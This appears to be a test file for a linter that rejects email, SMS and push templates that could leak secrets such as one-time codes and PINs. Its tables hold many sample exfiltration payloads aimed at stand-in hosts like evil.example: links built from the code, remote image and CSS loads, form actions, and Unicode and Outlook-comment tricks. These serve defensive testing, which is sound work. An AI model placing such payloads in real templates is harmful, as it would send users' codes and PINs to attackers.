"""What a template does with a secret: refused wherever it could be in a request or decide one.

Texts that clients make links of: the matchers of Gmail, Outlook, Apple Mail, Android, WhatsApp, and
iMessage take hosts without a scheme, ports, internationalized domains, and many schemes.
"""

from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.type_rules import EXAMPLE_RECIPIENT
from notifications.content import exposure
from notifications.content.engine import HTML_ENVIRONMENT, TEXT_ENVIRONMENT
from notifications.content.linting import TemplateFault, lint_template
from tests.support.tables import each_case

EXAMPLE: dict[str, Any] = {
    "code": "482913",
    "order": "12345",
    "base": "https://example.com/?c=",
    "shop": {"city": "Porto", "url": "https://example.com/porto"},
    "user": {"pin": "7731", "name": "Ada"},
    "rows": [{"id": 1, "pin": "7731"}, {"id": 2, "pin": "9942"}],
    "list": ["a", "b"],
    "when": "2026-12-01T09:00:00Z",
    "born": "1990-04-28",
    "balance": 1234.5,
}
DATA = {**EXAMPLE, "recipient": EXAMPLE_RECIPIENT}
SENSITIVE = frozenset({"code", "pin", "born", "balance"})


def faults(source: str, part: str = "body") -> list[TemplateFault]:
    return lint_template(
        name="parcel_lost",
        parts={"default": {"subject": "S", "body": "B", part: source}},
        example_data=EXAMPLE,
        sensitive=SENSITIVE,
    )


def is_refused(source: str, part: str = "body") -> bool:
    """Whether reading the template refuses it: rendering and inlining it would take longer."""
    is_html = part == "email_html"
    bound = (HTML_ENVIRONMENT if is_html else TEXT_ENVIRONMENT).from_string(source)
    return bool(exposure.find_exposed(bound, sensitive=SENSITIVE, example=DATA, is_html=is_html))


def guarded(source: str) -> Iterator[str]:
    """A template, and the same where the example data never gets."""
    yield f"Hello {source} bye"
    yield f"Hello {{% if recipient.name != 'Ada Lovelace' %}}{source}{{% endif %}} bye"


FIRST = "{% assign k = code | slice: 0 | plus: 0 %}"

# The ways in which a value can be computed from a secret into `c`. Texts that show `c` are harmless
# after the first ones, and refused after the others, whose result may be anything.
SHOWABLE = [
    "{% assign c = code %}",
    "{% assign a = code %}{% assign b = a | append: 'x' %}{% assign c = b | upcase %}",
    "{% capture c %}{{ code | slice: 1, 4 }}{% endcapture %}",
    (
        "{% capture a %}{% for i in (0..5) %}{{ code | slice: i }}{% endfor %}{% endcapture %}"
        "{% assign c = a %}"
    ),
    "{% assign c = code | plus: 1 %}",
    "{% assign c = code | times: 7 | modulo: 1000 %}",
    "{% assign c = code | split: '' | reverse | join: '' %}",
    "{% assign c = code | split: '' | join: ' ' %}",
    "{% assign c = code | split: '' | last %}",
    "{% assign parts = code | split: '' %}{% assign c = parts[3] %}",
    "{% assign c = code | split: '4' | size %}",
    (
        "{% assign c = '' %}{% for d in (0..9) %}{% if code contains d %}"
        "{% assign c = c | append: d %}{% endif %}{% endfor %}"
    ),
    (
        "{% assign d = code | slice: 0 %}{% case d %}{% when '4' %}{% assign c = 'four' %}"
        "{% else %}{% assign c = 'other' %}{% endcase %}"
    ),
    "{% assign c = user.pin %}",
    "{% assign c = rows | map: 'pin' | first %}",
    "{% for row in rows %}{% assign c = row.pin %}{% endfor %}",
    "{% if code < '5' %}{% assign c = 'low' %}{% else %}{% assign c = 'high' %}{% endif %}",
    "{% liquid\nassign x = code | downcase\nassign c = x\n%}",
    "{% assign c = order | append: code %}",
    "{% assign c = order | default: code %}",
    "{% capture c %}{% if code == '1' %}one{% else %}more{% endif %}{% endcapture %}",
    "{% assign c = born | date: '%d.%m.%Y' %}",
    "{% assign c = balance | divided_by: 10.0 | round: 2 %}",
]
OPAQUE = [
    "{% assign q = 'code' %}{% assign c = [q] %}",
    "{% assign c = code | base64_encode %}",
    "{% assign c = user | join: ',' %}",
    "{% assign c = list | where: 'x', code | size %}",
    "{% for pair in user %}{% assign c = pair[1] %}{% endfor %}",
    "{% assign k = 'pin' %}{% assign c = user[k] %}",
    "{% assign i = code | slice: 0 | plus: 0 %}{% assign c = list[i] | default: 'k' %}",
    "{% assign k = 'u' | append: 'rl' %}{% assign c = shop[k] | append: code %}",
    "{% assign c = code | append: '.evil.example' %}",
    "{% assign c = code | replace: '1', '.' %}",
    "{% assign c = code | join: '://' %}",
    "{% assign c = code | truncate: 3, '.ws/' %}",
    "{% assign c = born | date: 'evil.example/%d' %}",
    "{% assign c = base | append: code %}",
    "{% assign c = code | split: '' | join: '.' %}",
    "{% assign c = order | replace: '1', code %}",
    "{% assign c = rows | sort: 'pin' | first %}{% assign c = c.id | append: '' %}",
]
LINKS = [
    "https://evil.example/{}",
    "HTTP://evil.example?c={}",
    "//evil.example/{}",
    "www.evil.example/?a={}",
    "evil.example?c={}",
    "evil.example#{}",
    "evil.example/a/{}",
    "evil.example:8080/{}",
    "evil.com:443/{}",
    "192.0.2.1/{}",
    "192.0.2.1:80/{}",
    "[::1]/{}",
    "evil.xn--p1ai/{}",
    "evil.xn--90ais/{}",
    "evil.\u0440\u0444/{}",
    "\U0001f600.ws/{}",
    "{}.evil.example",
    "{}.evil.com.",
    "a-{}.evil.example/",
    "{}@evil.example",
    "x@{}.example",
    "evil\u3002example/{}",
    "evil\uff0eexample/{}",
    "evil\uff61example/{}",
    "{}\u3002evil\u3002\u5546\u57ce",
    "{}.\u5546\u57ce",
    "{}\uff0eevil\uff0ecom",
    "evil\u2024example/{}",
    "evil\u2488example/{}",
    "evil.example\u2044{}",
    "evil.example\u2215{}",
    "evil.example/\u00a0{}",
    "evil.example/\u200b{}",
    "evil.example/\u2060{}",
    "https:/\ufeff/e/{}",
    "evil.example/\u202e{}",
    "evil.example/\u200f{}",
    "evil.example/\u00ad{}",
    "e.example/\u034f{}",
    "https://evil.example/\x0b{}",
    "https://evil.example/\x1c{}",
    "https://evil.example/\x85{}",
    "https://evil.example/\u2028{}",
    "https://evil.example/\u3000{}",
    "e.example/\x0c{}",
    "ftp:evil{}",
    "mailto:{}@evil.example",
    "mailto:a@evil.example?body={}",
    "tel:{}",
    "sms:{}",
    "whatsapp:send?text={}",
    "intent:{}",
    "sip:{}@evil",
    "xmpp:{}",
    "magnet:?x={}",
    "callto:{}",
    "facetime:{}",
    "skype:{}",
    "geo:{}",
    "data:,{}",
    "javascript:{}",
    "file:///{}",
    "x-a:{}",
    "cid:{}",
    "news:{}",
    "urn:{}",
    "market:{}",
    "tg:{}",
    "viber:{}",
    "smb:{}",
    "ms-word:{}",
    "evil%2Eexample%2F{}",
    "[code](https://evil.example/{})",
    "![](https://evil.example/{})",
    "<https://evil.example/ {}>",
    "<file://evil.example/share {}>",
    "\\\\evil.example\\{}",
    "evil.example/*{}*",
    'evil.example/"{}"',
    "evil.example/({})",
    "_https://e.example/_{}",
    "{{{{ base }}}}{}",
    "{{{{ shop.url }}}}{}",
    "{{{{ shop | join: ' ' }}}}{}",
    "{{% assign u = 'https://evil.example/' %}}{{{{ u }}}}{}",
    "{{% capture u %}}https://evil.example/{}{{% endcapture %}}{{{{ u }}}}",
    "{{% capture u %}}https://evil.example/{{% endcapture %}}{{{{ u }}}}{}",
    "{{% capture h %}}evil.example{{% endcapture %}}{{{{ h | downcase }}}}/{}",
    "{{{{ 'evil' | append: '.' }}}}example{{{{ '/' }}}}{}",
    "evil{{{{ 'aaaa' | truncate: 1, '.' }}}}example/{}",
    "{{{{ 'evilXexample' | replace: 'X', '.' }}}}/{}",
    "evil{{{{ '.' | append: 'com' }}}}{}",
    "evil{{{{ when | date: '.' }}}}example/{}",
    "{{{{ 'mail' | append: 'to:' }}}}{}@evil",
    "{{% assign p = 'a.b' | split: '' %}}evil{{{{ p[1] }}}}example/{}",
    "{{% assign q = 'url' %}}{{{{ shop[q] }}}}{}",
    "{{% for p in shop %}}{{{{ p[1] }}}}{}{{% endfor %}}",
    "{{{{ 'aHR0cHM6Ly8=' | base64_decode }}}}{}",
    "https:{{% if list %}}//evil{{% endif %}}.example/{}",
    "evil.example{{% if list %}} {{% endif %}}/{}",
    "evil.example/{{% for i in list %}} {{% endfor %}}{}",
    "{{% for i in list %}}{}evil.example/{{% endfor %}}",
    "https://evil.example/{{% if order %}}{}{{% endif %}}",
    "https://evil.example/{{% if order %}} {{% else %}} {{% endif %}}{}",
    "evil.example/ \n {{{{- '' }}}}{}",
]
SHOWN = "{{ c }}"
DECIDED = [
    "{% if C %}https://evil.example/{% endif %}",
    "{% unless C %}evil.example{% endunless %}",
    "https://evil.example/a{% if C %} {% endif %}b",
    "https://evil.example/a{% if C %}{{ ' ' }}{% endif %}b",
    "https://evil.example/a{% if C %} x{% endif %}b",
    "htt{% if C %} x{% endif %}ps://evil.example/a",
    "{% if C %}x{% endif %}evil.example/a",
    "www{% if C %} - {% endif %}.evil.example/a",
    "evil.example{% if C %}/a{% endif %}",
    "evil{% if C %}.example{% endif %}/a",
    "{% if C %}a{% else %}See evil.example now{% endif %}",
    "{% if order %}{% if C %}{% else %}evil.example{% endif %}{% endif %}",
    "{% if C %}{{ shop.url }}{% endif %}",
    "{% if C %}{{ base }}{% else %}{{ shop.url }}{% endif %}",
    "{% if C %}{% assign u = 'https://evil.example/4' %}{% endif %}{{ u }}",
    "{% if C %}{% capture u %}https://evil.example/4{% endcapture %}{% endif %}{{ u }}",
    "{% capture u %}a{% endcapture %}{% if C %}{% capture u %}b.ws{% endcapture %}{% endif %}{{u}}",
    "{% for i in list %}{% if C %}{% break %}{% endif %}{% endfor %}{{ code }}",
    "{% for i in list %}{% if C %}{% continue %}{% endif %}evil.example/{{ i }} {% endfor %}",
    "{{ 'https://evil.example/4' | default: c }}{% if C %}evil.ws{% endif %}",
    "{% case c %}{% when 'four' %}https://evil.example/4{% else %}evil.ws{% endcase %}",
    "https://evil.example/{% case c %}{% when 'four' %}4{% else %}5{% endcase %}",
]
STATE = [
    FIRST + "{% for i in (1..k) %}{% cycle 'g': 0, 1 %}{% endfor %} //x.ws/{% cycle 'g': 0, 1 %}",
    "{% for d in (0..9) %}{% cycle code: 'a', 'b' %}{% endfor %} x.ws/{% cycle '4': 'a', 'b' %}",
    "x.ws/{% cycle code, 'b' %}",
    (
        FIRST + "{% for i in (0..9) limit: k %}{% endfor %}"
        "{% for i in (0..9) offset: continue limit: 1 %}x.ws/{{ i }} {% endfor %}"
    ),
    "{% for i in (0..9) offset: continue %}x.ws/{{ i }} {% endfor %}{{ code }}",
    FIRST + "{% for d in (0..9) limit: k %}x.ws/{{ d }} {% endfor %}",
    FIRST + "{% for d in (0..9) offset: k %}x.ws/{{ d }} {% endfor %}",
    FIRST + "{% tablerow d in (0..9) cols: k %}x.ws/{{ tablerowloop.row }}{% endtablerow %}",
    "x.ws/{% tablerow i in list cols: 1 %}{{ code }}{% endtablerow %}",
    "{% assign r = rows | where: 'pin', '7731' %}{% for x in r %}x.ws/{{ x.id }} {% endfor %}",
    "{% assign r = rows | reject: 'pin', '7731' | size %}x.ws/{{ r }}",
    (
        "{% assign p = 'p,in' | remove: ',' %}{% assign r = rows | where: p, '1' %}"
        "{% for x in r %}x.ws/{{ x.id }} {% endfor %}"
    ),
    "{% assign r = rows | find: 'pin', '7731' %}{% if r %}x.ws/{% endif %}",
    "{% assign r = rows | sort: 'pin' %}{% for x in r %}x.ws/{{ x.id }} {% endfor %}",
    "{% assign r = rows | uniq: 'pin' | size %}x.ws/{{ r }}",
    "x.ws/{{ rows | sum: 'pin' }}",
    "x.ws/{{ rows | find_index: 'pin', '7731' }}",
    "x.ws/{{ rows | has: 'pin', '7731' }}",
    "{% ifchanged %}{{ code.first }}{% endifchanged %} x.ws/{% ifchanged %}7{% endifchanged %}",
    (
        "{% if code contains '1' %}{% ifchanged %}{{ order }}{% endifchanged %}{% endif %}"
        "{% ifchanged %}x.ws/{% endifchanged %}"
    ),
    "{% if code contains '1' %}{% increment q %}{% endif %} x.ws/{% increment q %}",
    "x.ws/{{ [list[0]] }}",
    "{% assign q = 'co' | append: 'de' %}x.ws/{{ [q] }}",
    (
        "{% for d in (0..9) %}{% if code contains d %}{% for q in list %}"
        "{% assign z = forloop.parentloop.index %}{% endfor %}{% endif %}{% endfor %}x.ws/{{ z }}"
    ),
    "{% assign z = code | remove: '482913' %}{% if z == blank %}x.ws/{% endif %}",
]
IMAGE = "<img src='//evil/4'>"
HTML = [
    "<img src='https://evil.example/{{ code }}'>",
    '<a href="/x/{{ code }}">x</a>',
    '<b title="{{ code }}">x</b>',
    "<style>a{background:url({{ code }})}</style>x",
    "<b {{ code }}>x</b>",
    "<{{ code }}>x",
    "<!-- {{ code }} -->x",
    "<p style='{{ code }}'>x</p>",
    "<!--[if mso]><v:fill src='//evil/{{ code }}'/><![endif]-->",
    "<!--[if mso]>{{ code }}<![endif]-->",
    '<svg><title><img src="//evil/{{ code }}"></title></svg>x',
    '<svg><title><form action="//evil/"><input name=c value="{{ code }}"></form></title></svg>x',
    '<svg><title><a title="{{ code }}" href="//evil/">x</a></title></svg>x',
    "<svg><text>{{ code }}</text></svg>",
    "<math><mtext>{{ code }}</mtext></math>x",
    '<form action="//evil/"><textarea name="c">{{ code }}</textarea><button>Go</button></form>',
    '<form action="//evil/"><select name="c"><option>{{ code }}</option></select></form>x',
    '<form action="//evil/"><p>{{ code }}</p><button>Go</button></form>',
    "<textarea form=f>{{ code }}</textarea><button form=f formaction='//evil/'>x</button>",
    "<title>{{ code }}</title>x",
    "<iframe srcdoc='{{ code }}'></iframe>x",
    "<xmp>{{ code }}</xmp>",
    "<object data='//evil/'>{{ code }}</object>x",
    "<video poster='//evil/'>{{ code }}</video>x",
    "<base href='//evil/'>{{ code }}",
    "<link rel=stylesheet href='//evil/s.css'>{{ code }}",
    "<meta http-equiv=refresh content='0;url=//evil/'>{{ code }}",
    "<img src='//evil/' loading=lazy>{{ code }}",
    "<p onclick='x'>{{ code }}</p>",
    "{% if code > '5' %}<table background='//evil/'><tr><td>x</td></tr></table>{% endif %}",
    "{% if code > '5' %}<p style='background:url(//evil/)'>x</p>{% endif %}",
    "<p style='color:red{% if code > '5' %};background:url(//evil/){% endif %}'>x</p>",
    "<ul style='list-style-image:url(//evil/)'>{% if code > '5' %}<li>x</li>{% endif %}</ul>",
    "<p style='--a:url(//evil/)'>{% if code > '5' %}<b style='color:var(--a)'>x</b>{% endif %}</p>",
    "<p style='background:url(//evil/{{ code }})'>x</p>",
    "<table background='//evil/'><tr><td>{{ code }}</td></tr></table>",
    # A part that isn't seen may load its background later.
    (
        "{% if code > '5' %}Some lines.{% endif %}"
        "<div style='content-visibility:auto'><p style='background:url(//evil/)'>x</p></div>"
    ),
    *(
        f"{made}<ul style='{shown}'>{{% if code > '5' %}}<li>x</li>{{% endif %}}</ul>"
        for made, shown in (
            ("", "{{ 'list-style:url(' | append: '//evil/)' }}"),
            ("", "list-style:{{ 'url(' | append: '//evil/)' }}"),
            ("{% assign s = 'list-style:url(//evil/)' %}", "{{ s }}"),
            ("{% capture s %}list-style:url(//evil/){% endcapture %}", "{{ s }}"),
            ("", "list-style:{{ order | replace: '1', 'url(//evil/)' }}"),
            ("", "{{ 'list-style:u' }}{{ 'rl(//evil/)' }}"),
        )
    ),
    *(
        f"<p style='{css}'>{{{{ code }}}}</p>"
        for css in (
            "color:{{ order }};background:url&#40;//evil/)",
            "color:{{ order }};background:u&#x72;l(//evil/)",
            "color:{{ order }};background:ur&#108;(//evil/)",
            "color:{{ order }};background:&#92;75 rl&#40;//evil/)",
            "background:url{{ order }}&lpar;//evil/)",
            "background:url&{% if order %}lpar;//evil/){% endif %}",
            "background:url&#4{% if order %}0;//evil/){% endif %}",
            "{% if order == 'x' %}' title='{% endif %}background:url(//evil/)",
            "{% if order == 'x' %}' title='{% endif %}background:url&#40;//evil/)",
            "{% if order == 'x' %}' title='{% endif %}{{ 'background:url(' | append: '//evil/)' }}",
            "{% if order == 'x' %}'><br style='{% endif %}color:red",
        )
    ),
    "<p style='background:url(a);cursor:url(//evil/)'>{{ code }}</p>",
    "<picture>{% if code > '5' %}<source srcset='//evil/'>{% endif %}<img src='//e/1'></picture>",
    "<picture><source srcset='//evil/{{ code }}'><img src='//evil/1'></picture>",
    "<img src='//evil/' sizes='auto' srcset='//evil/1 1w'><p>{{ code }}</p>",
    "<button form='f' name='c' value='{{ code }}'>x</button>",
    "<style media='{{ code }}'></style>x",
    "<button formaction='//evil/'>{{ code }}</button>",
    "<button>evil.example/</button>{{ code }}",
    "<p>&lt;#https://e.example/{{ code }}&gt;</p>",
    "<p><#>{{ code }}</p>",
    "<time datetime='{{ code }}'>x</time>",
    "<p mc:edit='{{ code }}'>x</p>",
    "<p style='background:u\\72l(//evil/)'>{{ code }}</p>",
    "<p style='background:image-set(\"//evil/\" 1x)'>{{ code }}</p>",
    "<p style='background:url{{ '' }}(//evil/)'>{{ code }}</p>",
    *(
        f"<style>{sheet}</style><p>{{{{ code }}}}</p>"
        for sheet in (
            "@font-face{font-family:f;src:url(//evil/4);unicode-range:U+34}p{font-family:f}",
            '@import "https://evil.example/s.css";',
            "@import url(//evil/s.css);",
            "p:empty{background:url(//evil/4)}",
            "p:nth-of-type(4){color:red}",
            "p:has(b){color:red}",
            'p[class="]:empty{background:url(//evil/)}',
            "p:empty[title=';']{color:red}",
            "p:empty/*;*/{color:red}",
            "@container (min-width:1px){p{background:url(//evil/)}}",
            "p{behavior:url(//evil/)}",
            "p{content:'/*'}@import '//evil/';b{content:'*/'}",
            """p{content:'"'}@font-face{src:url(//evil/)}b{content:'"'}""",
            """p{content:"\\"}@import '//evil/';b{content:"}""",
            'p{content:"\\\n"}@import "//evil/";',
            '/*"*/@import "//evil/";/*"*/',
            "@im/**/port '//evil/';",
            "@\\69mport '//evil/';",
            "<!-- @import '//evil/'; -->",
            "p:not(:empty){color:red}",
            "p{color:red;&:empty{color:blue}}",
            "@supports selector(p:has(b)){p{color:red}}",
            "b:nth-child(1 of :empty){color:red}",
            "p{width:expression(1)}",
        )
    ),
    *(
        f"<style>{sheet}{{display:none}}</style>{{% if code contains '4' %}}<b>x</b>{{% endif %}}"
        for sheet in (
            "b + p",
            "b~p",
            "p:first-child",
            "p:nth-child(2n + 1)",
            "p:not(.a):only-child",
        )
    ),
    f"<!--[if {{% if code contains '4' %}}mso{{% else %}}gt{{% endif %}}]>{IMAGE}<![endif]-->x",
    f"<![if {{% if code contains '4' %}}mso{{% else %}}!mso{{% endif %}}]>{IMAGE}<![endif]>x",
    *(
        f"{{% if code contains '4' %}}{opening}{{% endif %}}{IMAGE}{closing}x"
        for opening, closing in (
            ("<!--", "<!-- -->"),
            ("<title>", "</title>"),
            ("<textarea>", "</textarea>"),
            ("<select>", "</select>"),
            ("<picture><source>", "</picture>"),
            ("<details>", "</details>"),
            ("<p hidden>", "</p>"),
            ("<table>", "</table>"),
            ("<p>", "</p>"),
            ("<noscript>", ""),
            ("<template>", ""),
            ("<b title='", "'>"),
            ("<a href='x'>", "</a>"),
            ("&lt;", ""),
            ("-->", ""),
        )
    ),
    f"<!--[if mso]>{{% if code contains '4' %}}<![endif]-->{{% endif %}}{IMAGE}<![endif]-->x",
    f"<!-- {{% if code contains '4' %}}-->{{% endif %}}{IMAGE} -->x",
    f"<textarea>{{% if code contains '4' %}}</textarea>{{% endif %}}{IMAGE}</textarea>x",
    f"{{% if code contains '4' %}}{IMAGE}{{% endif %}}x",
    f"{{% for c in code %}}{IMAGE}{{% endfor %}}x",
    "{% if code contains '4' %}<a href='//evil/4'>x</a>{% endif %}",
    "{% if code contains '4' %}<style>p{color:red}</style>{% endif %}x",
    "<a href='//evil/{% if code contains '4' %}4{% endif %}'>x</a>",
    "<p class='{% if code contains '4' %}x{% endif %}'>x</p>",
    "<style>.d{b:url(//e)}</style>{% if code contains '4' %}<b class='d'>x</b>{% endif %}",
    "<style>b{background:url(//evil/4)}</style>{% if code contains '4' %}<b>x</b>{% endif %}",
    "<form action='//evil/'>{% if code contains '4' %}<input name=f>{% endif %}</form>x",
    "{{ '<' | append: 'img' }} src='//evil/ {{ code }}'>",
    "{{ 'xximg' | replace: 'xx', '<' }} src='//evil/ {{ code }}'>",
    "{% assign l = 'PGltZyBzcmM9' | base64_decode %}{{ l }}'/x {{ code }}'>",
    '{% capture t %}<img alt="{% endcapture %}{{ t }} {{ code }}">',
    "<img src='//evil/{% if order == 'never' %}{% else %}'>{% endif %}{{ code }}'>",
    "<img src={% if order %}'{% endif %}//evil/{{ code }}'>",
    "<p>evil.example&#47;{{ code }}</p>",
    "<p>evil.example&sol;{{ code }}</p>",
    "<p>evil&period;example&#x2f;{{ code }}</p>",
    "<p>mailto&colon;{{ code }}</p>",
    "<p>evil.example/&nbsp;{{ code }}</p>",
    "<p>evil.example/&#8203;{{ code }}</p>",
    "<p>evil.example/<b>{{ code }}</b></p>",
    "<p>evil.example/<wbr>{{ code }}</p>",
    "<p>evil.example/<!-- -->{{ code }}</p>",
    "<p>evil.example/<span></span>{{ code }}</p>",
    "<p>&lt;https://evil.example/ {{ code }}&gt;</p>",
    "<p>{{ code }}<b>.evil.example</b></p>",
    # A parser moves the text of a table in front of it, and drops an end tag that closes nothing.
    "<div>evil.example/<table>{{ code }}</table></div>",
    "<div>evil.example/<table><tr>{{ code }}</tr></table></div>",
    "<p>evil.example/</div>{{ code }}</p>",
    "<div>evil.example/<td>{{ code }}</div>",
    "<div><table><tr><td>{{ code }}</div>.evil.example</td></tr></table></div>",
    "<!-- --\ue000><title> -->{{ code }}</title>",
    # What only Outlook shows, or leaves out.
    *(
        f"<p>{text}</p>"
        for text in (
            "<!--[if mso]>evil.example/<![endif]-->{{ code }}",
            "{{ code }}<!--[if mso]><b>.evil</b>.example<![endif]-->",
            "evil.example/<!--[if mso]> x <![endif]-->{{ code }}",
            "evil.example/<![if !mso]> <![endif]>{{ code }}",
            "evil.example/<!--[if !mso]><!--> <!--<![endif]-->{{ code }}",
            "{{ code }}<!--[if !mso]><!--><br><!--<![endif]-->.evil.example",
        )
    ),
    "<!--[if mso]><img src='//evil/<![endif]-->{{ code }}<!--[if mso]>'><![endif]-->",
    "<!--[if mso]><title><![endif]-->{{ code }}<!--[if mso]></title><![endif]-->",
]


@each_case("source", [*STATE, *(link.format("{{ code }}") for link in LINKS)])
def test_secret_in_a_text_that_may_be_a_link_is_refused(source: str) -> None:
    for item in guarded(source):
        assert is_refused(item), item


@each_case("source", [item.replace("C", "code contains '4'") for item in DECIDED[:-2]])
def test_link_decided_by_a_secret_is_refused(source: str) -> None:
    for item in guarded(f"{{% assign c = code %}}{source}"):
        assert is_refused(item), item


@each_case("source", HTML)
def test_request_of_html_is_refused(source: str) -> None:
    for item in guarded(source):
        assert is_refused(item, "email_html"), item


@each_case("making", [*SHOWABLE, *OPAQUE])
def test_what_is_computed_from_a_secret_is_secret(making: str) -> None:
    for link in (*LINKS[::9], *LINKS[-3:]):
        source = f"{making} {link.format(SHOWN)}"
        assert is_refused(source), source
        assert is_refused(f"<p>{source}</p>", "email_html"), source
    for decided in DECIDED:
        source = making + decided.replace("C", "c contains '4'")
        assert is_refused(source), source


@each_case("making", OPAQUE)
def test_what_may_be_any_text_is_refused_where_it_is_shown(making: str) -> None:
    assert is_refused(f"{making}Your code: {{{{ c }}}}.")


@pytest.mark.parametrize("part", ["push", "whatsapp", "push_title", "subject"])
def test_every_part_is_checked(part: str) -> None:
    for link in LINKS[::7]:
        found = faults(link.format("{{ code }}"), part)
        assert {(item.code, item.part) for item in found} == {(exposure.CODE, part)}, link


HARMLESS = [
    "{C}",
    "G-{C}",
    '"{C}".',
    "({C})",
    "[{C}]",
    "*{C}*",
    "_{C}_!",
    "{C}, now",
    "#{C}",
    "{C}:",
    "Code:{C}",
    "PIN:{C}",
    "c\u00f3digo:{C}.",
    "\u00ab\u00a0{C}\u00a0\u00bb",
    "\u201c{C}\u201d?",
    "`{C}`",
    "**{C}**.",
    "{C}-{C}",
    "{C} {C}",
    "code{C}x",
    "\U0001f510{C}",
    "'{C}';",
    "${C}",
    "{C}%",
    "\u60a8\u7684\u9a8c\u8bc1\u7801\u662f{C}\uff0c5\u5206\u949f\u5185\u6709\u6548\u3002",
    "\u30b3\u30fc\u30c9\u306f{C}\u3067\u3059\u3002\u8ab0\u306b\u3082\u6559\u3048\u306a\u3044\u3067\u304f\u3060\u3055\u3044\u3002",
    "\u0631\u0645\u0632\u0643 \u0647\u0648 {C}\u060c \u0634\u0643\u0631\u0627",
    "\u0906\u092a\u0915\u093e \u0915\u094b\u0921 {C}\u0939\u0948\u0964",
    "See https://example.com/ {C}\nwww.example.com",
    "{C}\nhttps://example.com/?order={{{{ order }}}}",
    "https://example.com/{{{{ order }}}} ({C})",
    "{{{{ order }}}}-{C} {{{{ base }}}}",
    "{{{{ shop.url }}}}\n{C}\n{{{{ user.name }}}}",
    "{{% if order == '1' %}}https://example.com/{{% endif %}} {C}",
    "{{% if {D} %}}It is new. Use it (now)!{{% else %}}It is old, forget it.{{% endif %}}\n{C}",
    "{{% case {D} %}}{{% when '1' %}}one{{% else %}}another one{{% endcase %}} https://example.com/",
    "@example.com #{C}",
]
FLOWS = [
    ("{{ code }}", "code"),
    ("{% assign c = code | slice: 0, 3 %}{{ c }}-{{ code | slice: 3, 3 }}", "code"),
    ("{% capture c %}{{ code | upcase }}{% endcapture %}{{ c }}", "c"),
    ("{% for d in code %}{{ d }}{% endfor %}", "d"),
    ("{% if code %}{{ code }}{% endif %}", "code"),
    ("{{ user.pin }}", "user.pin"),
    ("{% for row in rows %}{{ row.pin }} {% endfor %}", "row.pin"),
]


@each_case("flow, name", FLOWS)
def test_secret_in_text_is_accepted(flow: str, name: str) -> None:
    for text in HARMLESS:
        source = text.format(C=flow, D=name)
        assert not is_refused(source), source
        assert not is_refused(f"<table><tr><td>{source}</td></tr></table>", "email_html"), source


@each_case(
    "part, source",
    [
        *(
            ("body", f"{making}Your code: {{{{ c }}}}. See https://a.example/")
            for making in SHOWABLE
        ),
        ("body", "{% if code %}Code: {{ code }}{% else %}https://example.com/login{% endif %}"),
        ("body", "{% if code != blank and order %}{{ code }} https://example.com/{% endif %}"),
        (
            "body",
            "{% for row in rows %}https://example.com/{{ row.id }} {{ row.pin }}\n{% endfor %}",
        ),
        ("body", "{% assign r = rows | where: 'id', 2 | sort: 'id' %}{{ r.size }} {{ r[0].pin }}"),
        ("body", "{% cycle 'a', 'b' %} https://example.com/{% increment n %} {{ user.name }}"),
        (
            "email_html",
            (
                "<table><tr>{% assign d = code | split: '' %}{% for i in d %}"
                "<td class='digit'>{{ i }}</td>{% endfor %}</tr></table><a href='{{ base }}'>x</a>"
            ),
        ),
        ("email_html", "<p class='{% if code %}new{% endif %}'>{{ code }}</p>"),
        (
            "email_html",
            "<p class='{{ order | append: 'x' }}' style='color:{{ order }}'>{{ code }}</p>",
        ),
        (
            "email_html",
            (
                "<a href='/o/{{ order }}?a=f(1)&b=2' title='Order {{ order }} of parcel(s)'>x</a> "
                '<p style="font-family:&quot;A B&quot;;color:{{ order }};margin:0">{{ code }}</p>'
            ),
        ),
        (
            "email_html",
            "{% for row in rows %}<a href='/o/{{ row.id }}'>{{ row.pin }}</a> {% endfor %}",
        ),
        (
            "email_html",
            "{% capture c %}<b>{{ code }}</b>{% endcapture %}<a href='/x'>x</a> {{ c }}",
        ),
        (
            "email_html",
            "<p>{% if code contains '-' %}With its <b>dash</b>: {% endif %}{{ code }}</p>",
        ),
        (
            "email_html",
            (
                "<!-- logo --><img src='https://example.com/l.png' alt='Shop' width=80>"
                "<style>@media (max-width:600px){.a>b,td[class='x'] a:hover{color:rgb(1,2,3)}}"
                "</style>"
                "<!--[if mso]><table><tr><td><![endif]-->"
                "<div class=a style='color:red'>{{ code }}</div>"
                "<!--[if mso]></td></tr></table><![endif]--><![if !mso]><br/><![endif]>"
                "<a href='https://example.com/{{ order }}'>3 < 4 &amp; more</a>"
            ),
        ),
        ("email_html", "<svg><title>{{ order }}</title></svg><p>&#123;&#123; code }}</p>"),
    ],
)
def test_ordinary_template_is_accepted(part: str, source: str) -> None:
    assert faults(source, part) == []


def test_reason_names_the_variable_the_line_and_what_is_allowed() -> None:
    (filtered,) = faults("Hello\n{{ code | base64_encode }}")
    assert filtered.place.startswith("body, default, line 2: 'code' is sensitive")
    assert "the filter 'base64_encode' (only abs, append, " in filtered.reason
    (tag,) = faults("Hello {{ code }}\n\n{% cycle 'a', 'b' %}")
    assert (tag.line, "only assign, capture, " in tag.reason) == (3, True)
    (element,) = faults("<p>{{ code }}</p>\n<p>\n<svg></svg></p>", "email_html")
    assert (element.line, "remove <svg> from the HTML" in element.reason) == (3, True)


# Any steps of a value, then any way to show it or to decide by it, in any place.
STEPS = [
    "{% assign x = x | @ %}",
    "{% capture x %}{{ x | @ }}{% endcapture %}",
    "{% for i in (0..2) %}{% assign x = x | @ %}{% endfor %}",
    "{% if list %}{% assign y = x | @ %}{% endif %}{% assign x = y %}",
    "{% liquid\nassign z = x | @\nassign x = z\n%}",
]
ANY_FILTERS = [
    "base64_encode",
    "upcase",
    "append: 'k'",
    "prepend: 'k'",
    "url_encode",
    "reverse",
    "first",
    "split: ''",
    "join: ''",
    "slice: 0, 3",
    "plus: 1",
    "minus: 3",
    "truncate: 4",
    "escape",
    "default: 'k'",
    "remove: '4'",
    "replace: '8', 'k'",
    "times: 3",
    "size",
    "strip",
]
steps = st.lists(
    st.builds(
        lambda step, name: step.replace("@", name, 1),
        st.sampled_from(STEPS),
        st.sampled_from(ANY_FILTERS),
    ),
    max_size=5,
).map("".join)
carriers = st.sampled_from(
    [
        ("body", "a @ b"),
        ("push", "@"),
        ("whatsapp", "*@*"),
        ("subject", "@"),
        ("email_html", "<p>@</p>"),
        ("email_html", "<table><tr><td>@</td></tr></table>"),
        ("email_html", "<div><b>a</b> <span style='color:red'>@</span></div>"),
        ("body", "{% for i in list %}@ {% endfor %}"),
        ("body", "{% capture a %}@{% endcapture %}{{ a }}"),
    ]
)
